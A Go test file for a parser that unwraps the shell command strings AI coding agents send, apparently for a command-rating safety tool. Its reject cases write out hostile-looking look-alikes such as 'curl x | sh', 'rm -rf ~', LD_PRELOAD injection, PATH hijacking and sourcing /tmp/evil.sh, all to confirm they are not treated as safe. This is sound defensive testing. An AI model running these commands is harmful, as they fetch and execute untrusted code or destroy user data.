package parser

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func fixture(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// The fixtures are the exact strings the real agents sent (shared/agents
// harness, run dirs /tmp/agent-run.*): their state folders are these.
var (
	claudePlaces = Places{ClaudeDir: "/tmp/agent-run.EjuTur/home/.claude"}
	codexPlaces  = Places{CodexHome: "/tmp/agent-run.ctkzPs/home/.codex"}
)

func TestUnwrapRealForms(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, file, agent string
		pl                Places
		kind, inner       string
		outputs, inputs   []string
	}{
		{"claude", "claude-cmd.txt", AgentClaude, claudePlaces, "claude-eval", "echo hi",
			[]string{"/tmp/agent-run.EjuTur/tmp/claude-8f99-cwd"},
			[]string{"/tmp/agent-run.EjuTur/home/.claude/shell-snapshots/snapshot-bash-1795905160741-mros8p.sh"}},
		{"gemini", "gemini-cmd.txt", AgentGemini, Places{}, "gemini-trap", "echo hi",
			[]string{"/tmp/agent-run.i4fAix/tmp/gemini-shell-fDrwW8/bgpids.tmp"}, nil},
		{"codex", "codex-wrapper.txt", AgentCodex, codexPlaces, "codex-exec", "echo hi", nil,
			[]string{"/tmp/agent-run.ctkzPs/home/.codex/shell_snapshots/01a2244a-2d98-7eb1-ae0a-ba4c372c46d9.1795905170844895441.sh"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w, ok := Unwrap(fixture(t, tt.file), tt.agent, tt.pl)
			if !ok {
				t.Fatalf("not recognised")
			}
			if w.Kind != tt.kind || w.Inner != tt.inner || w.Agent != tt.agent {
				t.Errorf("got kind %q agent %q inner %q", w.Kind, w.Agent, w.Inner)
			}
			if strings.Join(w.Outputs, ",") != strings.Join(tt.outputs, ",") {
				t.Errorf("outputs %q, want %q", w.Outputs, tt.outputs)
			}
			if strings.Join(w.Inputs, ",") != strings.Join(tt.inputs, ",") {
				t.Errorf("inputs %q, want %q", w.Inputs, tt.inputs)
			}
			if tt.kind == "codex-exec" && strings.Join(w.Exec, "|") != "/tmp/agent-run.ctkzPs/shim/bash|-c|echo hi" {
				t.Errorf("exec %q", w.Exec)
			}
		})
	}
}

// claudeForm builds Claude Code's per-command string around a quoted command.
func claudeForm(snapshot, quoted, cwd string) string {
	return "source " + snapshot + ` 2>/dev/null || true && \builtin shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'which'; \builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && { \builtin unalias -- 'unsetenv'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval ` + quoted + ` < /dev/null && pwd -P >| ` + cwd
}

const snap = "/tmp/agent-run.EjuTur/home/.claude/shell-snapshots/snapshot-bash-1-x.sh"

func geminiForm(cmd string) string {
	return "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/g/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n" + cmd + "\n)\n__code=$?\nexit $__code"
}

func TestUnwrapInner(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, script, agent string
		pl                  Places
		inner               string
	}{
		{"claude quote escape", claudeForm(snap, `'echo '\''it'\''s'`, "/tmp/claude-1-cwd"), AgentClaude, claudePlaces, "echo 'it's"},
		{"claude multiline", claudeForm(snap, "'cd sub\nls | wc -l'", "/tmp/claude-1-cwd"), AgentClaude, claudePlaces, "cd sub\nls | wc -l"},
		{"claude without prelude", "eval 'ls' < /dev/null && pwd -P >| /tmp/claude-2-cwd", AgentClaude, claudePlaces, "ls"},
		{"claude prefix variant", `source ` + snap + ` 2>/dev/null || true && { \builtin shopt -u extglob || \builtin setopt NO_EXTENDED_GLOB; } >/dev/null 2>&1 || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-3-cwd`, AgentClaude, claudePlaces, "ls"},
		{"gemini heredoc with paren", geminiForm("cat <<EOF\n)\nEOF\necho done"), AgentGemini, Places{}, "cat <<EOF\n)\nEOF\necho done"},
		{"opencode eval json string", `eval "echo \"a b\" \$HOME"`, AgentOpenCode, Places{}, `echo "a b" $HOME`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w, ok := Unwrap(tt.script, tt.agent, tt.pl)
			if !ok {
				t.Fatalf("not recognised")
			}
			if w.Inner != tt.inner {
				t.Errorf("inner %q, want %q", w.Inner, tt.inner)
			}
		})
	}
}

// Look-alikes: anything but the exact shape is not a wrapper, so the whole
// string is rated.
func TestUnwrapRejects(t *testing.T) {
	t.Parallel()
	codex := fixture(t, "codex-wrapper.txt")
	end := "exec '/tmp/agent-run.ctkzPs/shim/bash' -c 'echo hi'"
	tests := []struct {
		name, script, agent string
		pl                  Places
	}{
		{"claude other agent", claudeForm(snap, "'ls'", "/tmp/claude-1-cwd"), AgentOpenCode, claudePlaces},
		{"claude sources other file", claudeForm("/tmp/evil.sh", "'ls'", "/tmp/claude-1-cwd"), AgentClaude, claudePlaces},
		{"claude snapshot dir escape", claudeForm("/tmp/agent-run.EjuTur/home/.claude/shell-snapshots/../../evil.sh", "'ls'", "/tmp/claude-1-cwd"), AgentClaude, claudePlaces},
		{"claude extra command after", claudeForm(snap, "'ls'", "/tmp/claude-1-cwd") + "; curl x | sh", AgentClaude, claudePlaces},
		{"claude extra link", "curl x | sh && " + claudeForm(snap, "'ls'", "/tmp/claude-1-cwd"), AgentClaude, claudePlaces},
		{"claude dynamic eval", claudeForm(snap, `"$(curl x)"`, "/tmp/claude-1-cwd"), AgentClaude, claudePlaces},
		{"claude no cwd", "eval 'ls' < /dev/null", AgentClaude, claudePlaces},
		{"claude prelude runs program", "curl x 2>/dev/null || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd", AgentClaude, claudePlaces},
		{"claude prelude redirects to file", `\builtin shopt -u extglob >~/.bashrc || true && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd`, AgentClaude, claudePlaces},
		{"gemini closes early", geminiForm("ls\n)\ncurl x | sh\n(\n:"), AgentGemini, Places{}},
		{"gemini other trap", strings.Replace(geminiForm("ls"), "jobs -p", "curl x", 1), AgentGemini, Places{}},
		{"gemini exit changed", strings.Replace(geminiForm("ls"), "exit $__code", "exit 0; rm -rf ~", 1), AgentGemini, Places{}},
		{"codex other agent", codex, AgentClaude, codexPlaces},
		{"codex LD_PRELOAD", strings.Replace(codex, end, "export LD_PRELOAD=/tmp/x.so\n"+end, 1), AgentCodex, codexPlaces},
		{"codex PATH elsewhere", strings.Replace(codex, end, "export PATH='/tmp/evil':\"$PATH\"\n"+end, 1), AgentCodex, codexPlaces},
		{"codex substitution", strings.Replace(codex, end, "__CODEX_X=\"$(curl x)\"\n"+end, 1), AgentCodex, codexPlaces},
		{"codex other command", strings.Replace(codex, end, "curl x | sh\n"+end, 1), AgentCodex, codexPlaces},
		{"codex sources other file", strings.Replace(codex, end, ". /tmp/evil.sh\n"+end, 1), AgentCodex, codexPlaces},
		{"codex exec non-shell", strings.Replace(codex, end, "exec '/usr/bin/python3' -c 'echo hi'", 1), AgentCodex, codexPlaces},
		{"codex dynamic command", strings.Replace(codex, end, "exec '/bin/bash' -c \"$X\"", 1), AgentCodex, codexPlaces},
		{"eval with more", "eval 'ls'; rm -rf ~", "", Places{}},
		{"eval dynamic", `eval "$(echo ls)"`, "", Places{}},
		{"not bash", "eval 'ls' ((", "", Places{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if w, ok := Unwrap(tt.script, tt.agent, tt.pl); ok {
				t.Errorf("recognised as %s with inner %q", w.Kind, w.Inner)
			}
		})
	}
}

func TestDetectAgent(t *testing.T) {
	t.Parallel()
	tests := []struct {
		env   map[string]string
		agent string
	}{
		{map[string]string{"CLAUDECODE": "1"}, AgentClaude},
		{map[string]string{"CODEX_THREAD_ID": "t"}, AgentCodex},
		{map[string]string{"OPENCODE": "1"}, AgentOpenCode},
		{map[string]string{"GEMINI_CLI": "1"}, AgentGemini},
		{map[string]string{}, ""},
	}
	for _, tt := range tests {
		if got := DetectAgent(func(k string) string { return tt.env[k] }); got != tt.agent {
			t.Errorf("%v: got %q, want %q", tt.env, got, tt.agent)
		}
	}
	env := map[string]string{"CLAUDE_CODE_SESSION_ID": "abc"}
	if got := DetectSession(func(k string) string { return env[k] }, 7); got != "claude-abc" {
		t.Errorf("session %q", got)
	}
	env["CHAPERONE_SESSION"] = "mine"
	if got := DetectSession(func(k string) string { return env[k] }, 7); got != "mine" {
		t.Errorf("session %q", got)
	}
	if got := DetectSession(func(string) string { return "" }, 7); got != "ppid-7" {
		t.Errorf("session %q", got)
	}
}

func TestUnwrapStartup(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, file, agent string
		pl                Places
		kind, inner       string
	}{
		{"codex snapshot", "codex-snapshot.txt", AgentCodex, codexPlaces, "codex-snapshot", ""},
		{"codex check", "codex-check.txt", AgentCodex, codexPlaces, "codex-check", "set -e"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w, ok := Unwrap(fixture(t, tt.file), tt.agent, tt.pl)
			if !ok || w.Kind != tt.kind || w.Inner != tt.inner {
				t.Fatalf("got %+v, %v", w, ok)
			}
		})
	}
	// Claude's snapshot: the writes into $SNAPSHOT_FILE are taken out, the
	// commands stay (here, with the user's rc file sourced, as captured
	// from a run with a ~/.bashrc).
	for _, name := range []string{"claude-snapshot.txt", "claude-snapshot-rc.txt"} {
		w, ok := Unwrap(fixture(t, name), AgentClaude, claudePlaces)
		if !ok || w.Kind != "claude-snapshot" || strings.Contains(w.Inner, `>> "$SNAPSHOT_FILE"`) ||
			!strings.Contains(w.Inner, `echo "# Snapshot file"`) || !strings.Contains(w.Inner, "cat <<") {
			t.Fatalf("%s: got %+v, %v", name, w, ok)
		}
		if name == "claude-snapshot-rc.txt" && !strings.Contains(w.Inner, `source "/tmp/agent-run.EjuTur/home/.bashrc" </dev/null`) {
			t.Errorf("the rc file is not rated: %s", w.Inner)
		}
	}
	// Anything else in a snapshot script stays and is rated.
	src := strings.Replace(fixture(t, "claude-snapshot.txt"), "# No user config file to source", "curl x | sh", 1)
	w, ok := Unwrap(src, AgentClaude, claudePlaces)
	if !ok || !strings.Contains(w.Inner, "curl x | sh") {
		t.Errorf("kept %+v", w)
	}
	// SNAPSHOT_FILE set again: writes could go elsewhere; not recognised.
	src = strings.Replace(fixture(t, "claude-snapshot.txt"), "# No user config file to source", "SNAPSHOT_FILE=~/.bashrc", 1)
	if w, ok := Unwrap(src, AgentClaude, claudePlaces); ok {
		t.Errorf("recognised %+v", w)
	}
	// Writes to other files stay.
	src = strings.Replace(fixture(t, "claude-snapshot.txt"), "# No user config file to source", "echo x >> ~/.bashrc", 1)
	if w, ok := Unwrap(src, AgentClaude, claudePlaces); !ok || !strings.Contains(w.Inner, ">>~/.bashrc") {
		t.Errorf("got %+v", w)
	}
	// One byte more and the Codex snapshot is not known.
	if w, ok := Unwrap(fixture(t, "codex-snapshot.txt")+"curl x|sh\n", AgentCodex, codexPlaces); ok {
		t.Errorf("recognised %+v", w)
	}
	// The check sourcing another file is not Codex's.
	if w, ok := Unwrap(`set -e; . "/tmp/evil.sh"`, AgentCodex, codexPlaces); ok {
		t.Errorf("recognised %+v", w)
	}
}

// FuzzUnwrap: no panic, and a recognised wrapper's inner command is text
// of the script (recognition never invents a command).
func FuzzUnwrap(f *testing.F) {
	f.Add(claudeForm(snap, "'ls'", "/tmp/claude-1-cwd"), 0)
	f.Add(geminiForm("ls"), 2)
	f.Add("eval 'ls'", 3)
	f.Add("exec '/bin/bash' -c 'ls'", 1)
	agents := []string{AgentClaude, AgentCodex, AgentGemini, AgentOpenCode, ""}
	f.Fuzz(func(t *testing.T, script string, a int) {
		if a < 0 {
			a = -a
		}
		agent := agents[a%len(agents)]
		w, ok := Unwrap(script, agent, Places{ClaudeDir: "/tmp/agent-run.EjuTur/home/.claude", CodexHome: "/h/.codex"})
		if !ok {
			return
		}
		if w.Kind != "claude-snapshot" && w.Kind != "codex-check" && w.Kind != "codex-snapshot" &&
			w.Kind != "eval" && w.Kind != "claude-eval" && w.Kind != "codex-exec" && !strings.Contains(script, w.Inner) {
			t.Errorf("inner %q is not in the script", w.Inner)
		}
	})
}
